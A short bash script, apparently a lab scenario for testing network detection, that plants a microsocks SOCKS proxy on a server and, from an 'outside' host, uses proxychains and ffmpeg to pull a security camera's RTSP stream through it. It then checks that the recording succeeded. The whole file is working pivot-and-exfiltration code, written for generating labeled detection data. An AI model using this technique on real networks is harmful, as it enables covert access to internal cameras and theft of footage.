#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=remote-viewer,direct-pull,new-listener half=report tool=microsocks camera=10.20.0.11 far=out seconds=46 parts=dns,camera-gate,recorder-gate,nas,outside-web
# An attacker leaves a SOCKS proxy on the server; outside, a player is sent through it right to the camera and plays gate.
if [ "$1" = out ]; then
	sleep 4; mkdir -p "$LAB/away"; printf '%s\n' strict_chain quiet_mode '[ProxyList]' 'socks5 10.30.0.2 1080' >"$LAB/chain.conf"
	exec timeout 44 proxychains4 -q -f "$LAB/chain.conf" ffmpeg -nostdin -loglevel error -rtsp_transport tcp -i rtsp://10.20.0.11/Streaming/Channels/101 -t 36 -c copy -f mpegts -y "$LAB/away/see.ts"
fi
timeout "$LAB_SECONDS" microsocks -i 10.30.0.2 -p 1080 >/dev/null 2>&1; [ "$(stat -c %s "$LAB/away/see.ts")" -gt 500000 ]
